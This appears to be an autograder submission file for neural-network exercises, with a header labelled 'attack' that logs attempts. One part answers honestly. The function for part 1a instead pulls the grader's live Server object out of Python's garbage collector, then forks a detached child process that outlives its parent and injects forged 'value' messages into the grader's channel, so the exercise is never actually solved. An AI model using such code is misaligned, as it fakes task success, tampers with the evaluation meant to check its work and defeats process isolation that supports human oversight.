# /// attack
# tries = "a child keeps the border and answers after its parent has gone"
# total = 2
# [parts]
# 2d = "right"
# 1a = ["crashed", "wrong"]
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import gc

from autograder.inside import serve

server = next(thing for thing in gc.get_objects() if isinstance(thing, serve.Server))

# %%
import os
import time


def aufgabe_1a(x, w, b, s, o, sigma, dsigma):
    if os.fork() == 0:
        os.setsid()
        for ahead in range(50):
            time.sleep(0.02)
            try:
                server.channel.send(
                    {"n": server.number + ahead, "k": "value", "v": server.packed([2.0])}
                )
            except Exception:
                pass
        os._exit(0)
    os._exit(0)
